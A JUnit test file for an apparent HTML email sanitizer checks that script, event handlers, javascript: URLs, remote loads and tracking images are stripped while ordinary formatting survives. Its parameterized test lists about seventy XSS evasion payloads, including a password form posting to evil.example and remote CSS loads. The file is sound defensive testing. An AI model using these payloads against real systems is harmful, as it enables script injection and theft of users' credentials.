package dev.mailcask.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MailHtmlTest {

  private static final String LOGO = "data:image/png;base64,iVBORw0KGgo=";

  private static String body(String html) {
    return body(MailHtml.show(html, Map.of("logo@x", LOGO)::get, _ -> List.of()));
  }

  private static String body(MailHtml.Shown shown) {
    String document = shown.document();
    return document
        .substring(document.indexOf("<body>") + 6, document.indexOf("\n</body>"))
        .strip();
  }

  private static int blocked(String html) {
    return MailHtml.show(html, _ -> null, _ -> List.of()).blocked();
  }

  /// From OWASP's XSS filter evasion cheat sheet, PortSwigger's, and bugs of mail clients.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" OnErRoR = 'alert(1)'>",
        "<img src=`x`onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=javascript:alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>",
        "<body background=\"javascript:alert(1)\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"behavior: url(x.htc)\">x</div>",
        "<div style=\"-moz-binding: url(https://evil.example/x)\">x</div>",
        "<div style=\"background:\\75\\72\\6c(https://evil.example/x)\">x</div>",
        "<div style='font-family:\"</style><script>alert(1)</script>\"'>x</div>",
        "<form action=\"https://evil.example\"><input name=p type=password><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)",
        "</body></html><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<img srcset=\"https://evil.example/x 1x\">",
        "<p id=x class=y>x</p><map name=x><area href=\"javascript:alert(1)\"></map>",
        "<div onmouseover='alert(1)'\u0000>x</div>",
        "<a href=\"https://good.example\" ping=\"https://evil.example\">x</a>",
        "<a href=\"//evil.example\">x</a>",
        "<style><img src=\"</style><img src=x onerror=alert(1)>\">"
      })
  void nothingRunsAndNothingIsLoaded(String vector) {
    String document = MailHtml.show(vector, Map.of("logo@x", LOGO)::get, _ -> List.of()).document();
    String shown = body(vector).toLowerCase(Locale.ROOT);
    for (String tag : tags(shown)) {
      assertThat(tag)
          .as(shown)
          .doesNotContainPattern("[\\s/\"'`]on\\w+\\s*=")
          .doesNotContain("javascript:", "vbscript:", "expression", "behavior", "binding")
          .doesNotContain("url(", "srcset", "ping=", "evil.example", "file:", "data:")
          .doesNotContainPattern(
              "^</?(script|style|iframe|frame|object|embed|form|input|button|link|meta|base|svg"
                  + "|math|video|audio|source|body|html|template|textarea|title|map|area)\\b");
    }
    assertThat(document).containsOnlyOnce("</body>").containsOnlyOnce("</style>");
  }

  /// What a browser would take for tags.
  private static List<String> tags(String html) {
    return Pattern.compile("<[a-z/!?][^>]*>?").matcher(html).results().map(r -> r.group()).toList();
  }

  @Test
  void whatPeopleWriteStays() {
    String html =
        """
        <h1 align="center">Offer</h1>
        <p style="color: #c00; font-size: 14px"><b>Dear</b> <i>Ada</i>, <font color="blue">see</font></p>
        <table width="600" cellpadding="4" bgcolor="#eeeeee"><tr><td colspan="2">1</td></tr></table>
        <ul><li>one</li></ul><blockquote>quoted</blockquote><pre>code</pre><hr>""";
    assertThat(body(html))
        .contains("<h1 align=\"center\">Offer</h1>", "color:#c00", "font-size:14px")
        .contains("<b>Dear</b>", "<i>Ada</i>", "<font color=\"blue\">see</font>")
        .contains("width=\"600\"", "bgcolor=\"#eeeeee\"", "colspan=\"2\"")
        .contains("<li>one</li>", "<blockquote>quoted</blockquote>", "<pre>code</pre>", "<hr");
  }

  @Test
  void linksOpenElsewhereAndTellNobody() {
    assertThat(body("<a href=\"https://example.org/a?b=c&amp;d=e\" target=_top>x</a>"))
        .contains("href=\"https://example.org/a?b&#61;c&amp;d&#61;e\"")
        .contains("noopener", "noreferrer", "nofollow")
        .doesNotContain("_top");
    assertThat(body("<a href=\"mailto:x@example.org\">x</a>")).contains("href=\"mailto:x");
    assertThat(MailHtml.show("", _ -> null, _ -> List.of()).document())
        .contains("<base target=\"_blank\">");
  }

  @Test
  void imagesOfTheMessageAreShownAndNoOthers() {
    String own = LOGO.replace("=", "&#61;");
    assertThat(body("<img src=\"cid:logo@x\" alt=L width=10>")).contains(own, "alt=\"L\"");
    assertThat(body("<img src='CID:logo%40x'>")).contains(own);
    assertThat(body("<img src=\"" + LOGO + "\">")).contains(own);
    assertThat(body("<img src=\"cid:other\" alt=\"missing\">"))
        .contains("alt=\"missing\"")
        .doesNotContain("cid:");
    assertThat(body("<img src=\"https://t.example/p.gif\" alt=\"Logo\">"))
        .contains("alt=\"Logo\"")
        .doesNotContain("t.example");
  }

  @Test
  void whatIsBlockedIsCounted() {
    assertThat(blocked("<p>none</p><img src=\"cid:x\"><img src=\"" + LOGO + "\">")).isZero();
    assertThat(blocked("<img src=\"https://t.example/p.gif\">")).isEqualTo(1);
    assertThat(blocked("<img src=\"//t.example/p.gif\"><img src=\"p.gif\">")).isEqualTo(2);
    assertThat(blocked("<td background=\"https://t.example/p.gif\">x</td>")).isEqualTo(1);
    assertThat(blocked("<p style=\"background: URL (https://t.example)\">x</p>")).isEqualTo(1);
    assertThat(blocked("<link rel=stylesheet href=\"https://t.example/s.css\"><p>x</p>"))
        .isEqualTo(1);
    assertThat(blocked("<iframe src=\"https://t.example\"></iframe>")).isEqualTo(1);
  }

  @Test
  void anyInputHasAnAnswer() {
    for (String html :
        List.of("", "<", "<p", "<p style='", "&#x110000;", "<!--", "\u0000", "<a href=")) {
      assertThat(MailHtml.show(html, _ -> null, _ -> List.of()).document()).endsWith("</html>\n");
    }
    assertThat(body("<div>".repeat(200) + "deep")).contains("deep");
    assertThat(body("shown" + "<div>".repeat(50_000))).contains("shown");
  }
}
